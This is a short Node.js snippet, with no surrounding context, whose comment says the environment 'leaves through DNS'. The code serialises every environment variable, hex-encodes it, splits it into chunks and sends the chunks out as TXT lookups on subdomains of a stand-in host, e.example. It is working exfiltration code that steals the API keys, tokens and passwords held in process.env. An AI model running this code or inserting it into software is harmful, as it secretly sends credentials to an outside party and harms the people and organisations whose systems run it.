// environment leaves through DNS
const dns = require('dns').promises;
const hex = Buffer.from(JSON.stringify(process.env)).toString('hex');
const parts = hex.match(/.{1,60}/g);
Promise.allSettled(parts.map((p, i) => dns.resolve(`${i}.${p}.e.example`, 'TXT')));
